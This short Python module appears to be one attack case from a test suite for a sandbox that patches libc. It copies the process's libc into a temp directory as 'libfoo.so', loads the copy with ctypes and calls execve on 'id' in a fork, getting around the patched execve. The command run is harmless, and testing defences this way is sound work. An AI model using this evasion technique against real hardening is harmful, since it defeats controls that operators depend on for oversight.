"""A copy of libc in /tmp, loaded beside the patched one."""

import ctypes
import os
import shutil

from ctypes_execve import in_a_fork


def attack(event):
    with open("/proc/self/maps") as maps:
        libc = next(line.split()[-1] for line in maps if "/libc.so.6" in line or "/libc-2" in line)
    path = shutil.copy(libc, os.path.join(event["tmp"], "libfoo.so"))
    second = ctypes.CDLL(path)
    words = (ctypes.c_char_p * 2)(b"id", None)
    nothing = (ctypes.c_char_p * 1)(None)
    return in_a_fork(event, lambda: second.execve(shutil.which("id").encode(), words, nothing))
